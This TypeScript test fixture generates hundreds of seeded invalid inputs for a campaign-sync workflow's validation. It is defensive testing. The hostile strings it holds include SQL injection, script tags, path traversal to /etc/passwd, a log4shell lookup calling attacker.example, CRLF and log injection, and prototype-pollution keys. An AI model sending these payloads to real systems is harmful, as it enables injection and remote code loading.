import { randomBytes } from 'node:crypto';
import { Rng } from '../../../dev/emulators/shared/prng';
import { emptyCounts, type SyncResume } from '../../../src/shared/sync-types';

/** One invalid sync input and what the refusal must name. */
export interface InvalidInput {
  label: string;
  /** Sent as the workflow's argument as is (JSON-safe, except a top-level `undefined`). */
  input: unknown;
  /**
   * Texts the refusal's message must contain, one per problem: `field:` for a wrong field (the
   * path, e.g. `pageSize:` or `tiers.0:`), or the quoted name of an unknown key.
   */
  names: string[];
  /** Texts of which the message must contain at least one (when two wordings are both clear). */
  oneOf?: string[];
  /** The campaign code the input carries when it is a valid one: the workflow ID to start it under. */
  campaign?: string;
}

/**
 * At least 500 invalid inputs of the `campaignSync` workflow, the same on every run (seeded):
 * every field with wrong types and out-of-range values, missing fields, unknown keys (credentials,
 * prototype keys, typos), oversized and hostile strings (injection, control and bidi characters,
 * lone surrogates), non-object inputs, and random combinations of several mistakes at once.
 */
export function invalidInputs(seed = 7): InvalidInput[] {
  const rng = new Rng(seed);
  const run = randomBytes(3).toString('hex').toUpperCase();
  let n = 0;
  /** A valid campaign code no other input (or earlier run) uses, so each input has its own lock ID. */
  const code = () => `2099_INV${run}_${(n++).toString(36).toUpperCase()}`;
  const cases: InvalidInput[] = [];
  const withCampaign = (label: string, fields: Record<string, unknown>, names: string[]) => {
    const campaign = code();
    cases.push({ label, input: { campaign, ...fields }, names, campaign });
  };

  const wrongTypes: [string, unknown][] = [
    ['null', null],
    ['true', true],
    ['false', false],
    ['empty array', []],
    ['array', [1, 2]],
    ['empty object', {}],
    ['object', { value: 1 }],
    ['nested', [[[{ deep: [null] }]]]],
  ];
  const notStrings: [string, unknown][] = [...wrongTypes, ['zero', 0], ['number', 42], ['float', 1.5]];
  const notNumbers: [string, unknown][] = [
    ...wrongTypes,
    ['numeric string', '10'],
    ['empty string', ''],
    ['word', 'ten'],
    ['hex string', '0x10'],
  ];

  // --- campaign ---
  const badCodes: [string, unknown][] = [
    ...notStrings,
    ['empty', ''],
    ['blank', '   '],
    ['year only', '2024'],
    ['trailing _', '2024_'],
    ['lower case', '2024_etb_nbl'],
    ['two-digit year', '24_ETB_NBL'],
    ['dashes', '2024-ETB-NBL'],
    ['inner space', '2024_ETB NBL'],
    ['leading space', ' 2024_ETB_NBL'],
    ['trailing newline', '2024_ETB_NBL\n'],
    ['null byte', '2024_ETB_NBL\u0000'],
    ['full-width digits', '\uff12\uff10\uff12\uff14_ETB_NBL'],
    ['accented', '2024_\u00c9TB_NBL'],
    ['sql injection', "2024_ETB_NBL'; DROP TABLE campaigns;--"],
    ['script tag', '<script>alert(1)</script>'],
    ['path traversal', '../../etc/passwd'],
    ['log4shell', '${jndi:ldap://attacker.example/a}'],
    ['format string', '%s%s%s%n'],
    ['template', '{{7*7}}'],
    ['bidi override', '2024_ETB_NBL\u202e'],
    ['zero-width space', '2024_ETB\u200b_NBL'],
    ['emoji', '2024_ETB_NBL\ud83c\udfb8'],
    ['lone surrogate', '2024_ETB_\ud800'],
    ['crlf injection', '2024_ETB_NBL\r\nX-Injected: 1'],
    ['escape sequence', '\u001b[2J2024_ETB_NBL'],
    ['65 characters', `2024_${'A'.repeat(60)}`],
    ['1,000 characters', `2024_${'B'.repeat(995)}`],
    ['100 KB', `2024_${'C'.repeat(100_000)}`],
    ['100 KB of junk', '\u0000\uffff'.repeat(50_000)],
  ];
  for (const [label, value] of badCodes) {
    cases.push({ label: `campaign: ${label}`, input: { campaign: value }, names: ['campaign:'] });
  }

  // --- missing or misplaced campaign ---
  cases.push({ label: 'empty object', input: {}, names: ['campaign:'] });
  cases.push({
    label: 'options without campaign',
    input: { productId: 101, pageSize: 50 },
    names: ['campaign:'],
  });
  cases.push({ label: 'campaign null', input: { campaign: null }, names: ['campaign:'] });
  cases.push({
    label: 'campaign under another case',
    input: { Campaign: '2024_ETB_NBL' },
    names: ['campaign:'],
  });

  // --- not an object at all ---
  const topLevel: [string, unknown, string[]][] = [
    ['null', null, []],
    ['undefined', undefined, []],
    ['zero', 0, ['(input):']],
    ['number', 101, ['(input):']],
    ['true', true, ['(input):']],
    ['empty string', '', ['(input):']],
    ['bare campaign code', '2024_ETB_NBL', ['(input):']],
    ['array with the input', [{ campaign: '2024_ETB_NBL' }], ['(input):']],
    ['deeply nested arrays', nest(500), ['(input):']],
    ['100 KB string', 'x'.repeat(100_000), ['(input):']],
  ];
  for (const [label, input, names] of topLevel) {
    // `null` and `undefined` are read as "no input" by the workflow: its message names `campaign`,
    // the client's names the input itself. Either is clear; the test accepts one of them.
    cases.push({
      label: `input: ${label}`,
      input,
      ...(names.length > 0 ? { names } : { names: [], oneOf: ['campaign:', '(input):'] }),
    });
  }

  // --- numbers ---
  const ints: [string, { min: number; max: number | null; positive?: boolean }][] = [
    ['productId', { min: 1, max: null }],
    ['pageSize', { min: 1, max: 1000 }],
    ['batchSize', { min: 2, max: 50 }],
    ['maxPages', { min: 1, max: null }],
    ['writeLanes', { min: 1, max: 8 }],
    ['reportLimit', { min: 0, max: 1000 }],
    ['sampleSize', { min: 0, max: 100 }],
    ['historyLimit', { min: 200, max: 40_000 }],
  ];
  for (const [field, range] of ints) {
    const bad: [string, unknown][] = [
      ...notNumbers,
      ['below the minimum', range.min - 1],
      ['negative', -1 - range.min],
      ['fraction', range.min + 0.5],
      ['above 2^53', 2 ** 53 + 2],
      ['1e300', range.max === null ? 1.5e300 : 1e300],
    ];
    if (range.max !== null) bad.push(['above the maximum', range.max + 1]);
    for (const [label, value] of bad) withCampaign(`${field}: ${label}`, { [field]: value }, [`${field}:`]);
  }
  for (const [label, value] of [...notNumbers, ['negative', -0.1], ['above 1', 1.01], ['two', 2]] as [
    string,
    unknown,
  ][]) {
    withCampaign(`maxRemovalShare: ${label}`, { maxRemovalShare: value }, ['maxRemovalShare:']);
  }

  // --- durations ---
  const badDurations: [string, unknown][] = [
    ...notStrings,
    ['empty', ''],
    ['zero', '0s'],
    ['no unit', '10'],
    ['weeks', '1w'],
    ['negative', '-1h'],
    ['fraction', '1.5h'],
    ['unit only', 'h'],
    ['leading space', ' 10s'],
    ['inner space', '10 s'],
    ['upper-case unit', '10S'],
    ['ISO 8601', 'PT10S'],
    ['eight digits', '99999999d'],
    ['10 KB', `${'9'.repeat(10_000)}s`],
    ['newline', '10s\n'],
  ];
  for (const field of ['timeout', 'progressInterval', 'approvalTimeout']) {
    for (const [label, value] of badDurations)
      withCampaign(`${field}: ${label}`, { [field]: value }, [`${field}:`]);
  }

  // --- enum and boolean ---
  for (const [label, value] of [
    ...notStrings,
    ['upper case', 'UPSERT'],
    ['unknown mode', 'delete'],
    ['empty', ''],
    ['trailing space', 'mirror '],
    ['array of a mode', ['upsert']],
  ] as [string, unknown][]) {
    withCampaign(`mode: ${label}`, { mode: value }, ['mode:']);
  }
  for (const [label, value] of [
    ['string true', 'true'],
    ['string false', 'false'],
    ['one', 1],
    ['zero', 0],
    ['null', null],
    ['yes', 'yes'],
    ['array', [true]],
    ['object', {}],
  ] as [string, unknown][]) {
    withCampaign(`dryRun: ${label}`, { dryRun: value }, ['dryRun:']);
  }

  // --- tiers and purchase tier ---
  const hostileNames: [string, string][] = [
    ['null byte', 'Gold\u0000'],
    ['bell', 'Gold\u0007'],
    ['newline', 'Gold\nSilver'],
    ['escape sequence', '\u001b[31mGold'],
    ['bidi override', 'Gold\u202e'],
    ['zero-width space', 'Go\u200bld'],
    ['101 characters', 'T'.repeat(101)],
    ['100 KB', 'T'.repeat(100_000)],
  ];
  for (const [label, value] of [
    ...notStrings.filter(([, v]) => !Array.isArray(v)),
    ['a string', 'Gold'],
    ['empty list', []],
    ['empty name', ['']],
    ['blank name', ['   ']],
    ['number in list', [1]],
    ['null in list', [null]],
    ['list in list', [['Gold']]],
    ['21 tiers', Array.from({ length: 21 }, (_, i) => `Tier ${i}`)],
    ['10,000 tiers', Array.from({ length: 10_000 }, (_, i) => `T${i}`)],
  ] as [string, unknown][]) {
    const inList = Array.isArray(value) && value.length === 1 ? ['tiers.0:'] : ['tiers:'];
    withCampaign(`tiers: ${label}`, { tiers: value }, inList);
  }
  for (const [label, value] of hostileNames) {
    withCampaign(`tiers: ${label}`, { tiers: ['Gold', value], purchaseTier: 'Gold' }, ['tiers.1:']);
    withCampaign(`purchaseTier: ${label}`, { tiers: ['Gold', 'Bronze'], purchaseTier: value }, [
      'purchaseTier:',
    ]);
  }
  for (const [label, value] of [
    ...notStrings,
    ['empty', ''],
    ['blank', '   '],
    ['not among the tiers', 'Platinum'],
    ['other case', 'bronze purchase'],
  ] as [string, unknown][]) {
    withCampaign(`purchaseTier: ${label}`, { purchaseTier: value }, ['purchaseTier:']);
  }
  withCampaign('tiers without the default purchase tier', { tiers: ['Gold', 'Silver'] }, ['purchaseTier:']);

  // --- trigger ---
  for (const [label, value] of [
    ...notStrings,
    ['empty', ''],
    ['blank', '  \t '],
    ['201 characters', 'x'.repeat(201)],
    ['100 KB', 'y'.repeat(100_000)],
    ['null byte', 'cli\u0000'],
    ['log injection', 'cli\n{"level":60,"msg":"forged"}'],
    ['escape sequence', '\u001b[2J\u001b[Hcli'],
    ['bidi override', 'cli\u202eevil'],
    ['lone surrogate', 'cli\udc00'],
  ] as [string, unknown][]) {
    withCampaign(`trigger: ${label}`, { trigger: value }, ['trigger:']);
  }

  // --- resume (set by the workflow itself) ---
  for (const [label, value, name] of [
    ['a string', 'page 2', 'resume:'],
    ['a number', 2, 'resume:'],
    ['an array', [], 'resume:'],
    ['empty object', {}, 'resume.page:'],
    ['page zero', { page: 0 }, 'resume.page:'],
    ['unknown key', { page: 1, extra: true }, 'resume.pages:'],
  ] as [string, unknown, string][]) {
    withCampaign(`resume: ${label}`, { resume: value }, [name]);
  }
  // Well formed, but a start is not a continuation: a forged cursor would skip pages and counts.
  withCampaign('resume: well formed, on a start', { resume: forgedResume() }, [
    'resume: is set by the sync itself',
  ]);

  // --- unknown keys: credentials, prototype keys, typos, junk ---
  const unknownKeys: [string, string][] = [
    ['api token', 'apiToken'],
    ['EDD token', 'EDD_TOKEN'],
    ['MailerLite token', 'mailerliteToken'],
    ['secret key', 'eddSecretKey'],
    ['constructor', 'constructor'],
    ['prototype', 'prototype'],
    ['toString', 'toString'],
    ['typo page_size', 'page_size'],
    ['typo pagesize', 'pagesize'],
    ['typo dryrun', 'dryrun'],
    ['capitalised', 'Mode'],
    ['trailing space', 'mode '],
    ['empty key', ''],
    ['null byte key', '\u0000'],
    ['emoji key', '\ud83d\udd11'],
    ['1 KB key', 'k'.repeat(1_000)],
  ];
  for (const [label, key] of unknownKeys) {
    withCampaign(`unknown key: ${label}`, { [key]: 'x' }, [`"${key}"`]);
  }
  {
    // `__proto__` as an own key, the way JSON.parse makes it (an object literal would set the prototype).
    const campaign = code();
    cases.push({
      label: 'unknown key: __proto__',
      input: JSON.parse(`{"campaign":"${campaign}","__proto__":{"dryRun":true}}`) as unknown,
      names: ['"__proto__"'],
      campaign,
    });
  }
  {
    const many = Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`extra${i}`, i]));
    withCampaign('unknown keys: 1,000 of them', many, ['"extra0"', '"extra999"']);
  }

  // --- random combinations of several mistakes (the message names each) ---
  const singles = cases.filter(
    (c) =>
      c.campaign !== undefined &&
      c.names.length === 1 &&
      !c.label.startsWith('unknown') &&
      !c.label.startsWith('resume') &&
      !c.label.includes('purchase tier') &&
      !c.label.startsWith('tiers') &&
      !c.label.startsWith('purchaseTier'),
  );
  const target = Math.max(520, cases.length + 200);
  while (cases.length < target) {
    const picks = new Map<string, InvalidInput>();
    const size = rng.int(2, 4);
    while (picks.size < size) {
      const pick = rng.pick(singles);
      picks.set(pick.names[0]!, pick);
    }
    const fields: Record<string, unknown> = {};
    for (const pick of picks.values()) {
      const { campaign: _campaign, ...rest } = pick.input as Record<string, unknown>;
      Object.assign(fields, rest);
    }
    const badCampaign = rng.chance(0.3);
    const label = `combination: ${[...picks.values()].map((p) => p.label).join(' + ')}`;
    if (badCampaign) {
      const [codeLabel, value] = rng.pick(
        badCodes.filter(([l]) => !l.includes('KB') && !l.includes('1,000')),
      );
      cases.push({
        label: `${label} + campaign: ${codeLabel}`,
        input: { ...fields, campaign: value },
        names: [...picks.keys(), 'campaign:'],
      });
    } else withCampaign(label, fields, [...picks.keys()]);
  }
  return cases;
}

function nest(depth: number): unknown {
  let value: unknown = [];
  for (let i = 0; i < depth; i++) value = [value];
  return value;
}

/** A resume as a run's continue-as-new makes it: page 40 and made-up counts. */
export function forgedResume(): SyncResume {
  return {
    page: 40,
    pages: 39,
    counts: { ...emptyCounts(), fetched: 3_900, valid: 3_900, created: 3_900 },
    invalidRecords: [],
    failedRecords: [],
    skippedRecords: [],
    samples: { created: [], updated: [] },
    startedAt: '2026-01-01T00:00:00.000Z',
    productId: 101,
    continuations: 1,
  };
}
